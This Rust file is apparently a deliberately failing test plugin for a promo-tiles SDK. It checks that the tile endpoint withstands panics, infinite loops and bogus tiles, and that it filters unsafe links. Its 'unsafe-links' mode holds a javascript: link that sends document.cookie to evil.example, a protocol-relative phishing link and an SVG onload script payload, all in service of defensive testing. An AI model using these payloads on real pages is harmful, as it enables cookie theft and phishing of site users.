//! A promo-tiles plugin that fails the way its `mode` parameter says: `panic`, `loop`
//! (until the deadline) or `bogus` (a tile for an offer it was not given). The tile
//! endpoint must answer every one with the slot's fallback tiles, never a 5xx. In
//! `unsafe-links` it answers with one tile per offer, linking in turn to `javascript:`, to
//! a protocol-relative `//evil.example`, to a `data:` image, and to the offer's own link:
//! only the last may reach the page.
#![no_std]
use rekindle_sdk::prelude::*;

struct Failing;

impl Tiles for Failing {
    fn describe() -> TilesInfo {
        TilesInfo::new("hostile-tiles", "0.0.0", "fails on purpose")
            .param(ParamSpec::text("mode", "panic", "panic, loop, bogus or unsafe-links"))
    }

    fn decide(ctx: &Context, request: &TileRequest, _: Option<&Profile>, offers: &[Offer]) -> Result<Vec<Tile>, String> {
        match ctx.text("mode")? {
            "unsafe-links" => Ok(offers
                .iter()
                .take(request.max_tiles as usize)
                .enumerate()
                .map(|(i, offer)| {
                    let (link, image) = match i % 4 {
                        0 => ("javascript:fetch('https://evil.example/?c='+document.cookie)".to_string(), None),
                        1 => ("//evil.example/login".to_string(), None),
                        2 => (offer.link.clone(), Some("data:image/svg+xml,<svg onload=alert(1)>".to_string())),
                        _ => (offer.link.clone(), offer.image.clone()),
                    };
                    Tile {
                        offer_id: offer.id.clone(),
                        title: offer.title.clone(),
                        body: offer.body.clone(),
                        image,
                        link,
                        voucher: None,
                        score: 0.0,
                        reason: String::new(),
                    }
                })
                .collect()),
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = core::hint::black_box(n.wrapping_add(1));
                }
            }
            "bogus" => Ok(vec![Tile {
                offer_id: "not-a-candidate".into(),
                title: String::new(),
                body: String::new(),
                image: None,
                link: "/".into(),
                voucher: None,
                score: 0.0,
                reason: String::new(),
            }]),
            _ => panic!("no tiles today"),
        }
    }
}

rekindle_sdk::export_tiles!(Failing);
